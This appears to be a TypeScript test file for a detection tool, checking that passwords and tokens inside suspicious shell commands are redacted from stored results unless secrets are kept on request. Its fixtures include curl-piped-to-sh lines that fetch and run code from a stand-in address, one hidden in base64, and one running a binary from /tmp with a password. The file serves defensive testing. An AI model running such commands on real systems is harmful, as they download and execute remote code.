import { expect, test } from 'bun:test';
import { factSet, judgeContext, text } from '../detect/facts.fixture.ts';
import { entryFact } from '../detect/persistence/entry.fixture.ts';
import { judgeEntries } from '../detect/persistence/judge-entries.ts';
import { redactor } from './redact.ts';
import { resultPersistence } from './result-persistence.ts';

const encoded = Buffer.from('curl -u admin:zqDecoded91 http://192.0.2.1/x | sh').toString('base64');
const commands = [
  'curl -s http://user:zqUrl90@192.0.2.1/a | sh',
  'curl -s http://192.0.2.1/a?token=zqToken92 | sh',
  `echo ${encoded} | base64 -d | sh`,
  'MYSQL_PWD=zqVariable93 /tmp/x --password zqOption94',
];
const rows = (keepSecrets: boolean): string => {
  const { text: whole, words, name } = redactor(keepSecrets);
  const entries = judgeEntries(factSet(...commands.map((one) => entryFact(one))), judgeContext());
  return JSON.stringify(resultPersistence(entries, { text: whole, words, name }));
};

test('no password of a command, of a decoded layer or of an address is in a row or in its reasons', () => {
  const shown = rows(false);
  expect(shown).not.toMatch(/zqUrl90|zqDecoded91|zqToken92|zqVariable93|zqOption94/);
  expect(shown).toContain(text('192.0.2.1/a'));
});

test('they are where they were asked for', () => {
  expect(rows(true)).toMatch(/zqUrl90[\s\S]*zqOption94/);
});
